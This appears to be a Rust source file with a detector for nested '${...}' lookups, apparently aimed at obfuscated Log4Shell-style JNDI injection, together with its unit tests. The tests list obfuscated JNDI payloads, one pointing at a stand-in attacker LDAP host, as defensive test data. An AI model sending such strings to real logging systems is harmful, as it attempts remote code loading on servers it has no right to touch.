/// Whether a lookup as `${env:x}` stands within another expression, as in `${jn${env:x:-d}i:…}`: whoever builds the name of what is looked up
/// from lookups hides it.
pub(super) fn is_nested(value: &str) -> bool {
    let mut open = 0_usize;
    let mut before = b' ';
    for byte in value.bytes() {
        match byte {
            b'{' if before == b'$' => open = open.saturating_add(1),
            b'}' => open = open.saturating_sub(1),
            b':' if open > 1 => return true,
            _ => {}
        }
        before = byte;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_are_built_from_lookups_are_found() {
        for value in [
            "${jn${foo:-d}i:ldap://evil.example/a}",
            "${${what:ever:-j}ndi:x}",
            "${j${k8s:k5:-ND}i:x}",
            "${jnd${date:'i'}:x}",
            "x ${a} ${${b:-c}}",
        ] {
            assert!(is_nested(value), "{value}");
        }
        for value in [
            "${a}: ${b:c}",
            "${order.${kind}}",
            "{a: {b: c}}",
            "$a {b: ${c}} d:e",
            "}}}: ${a:b}",
        ] {
            assert!(!is_nested(value), "{value}");
        }
    }
}
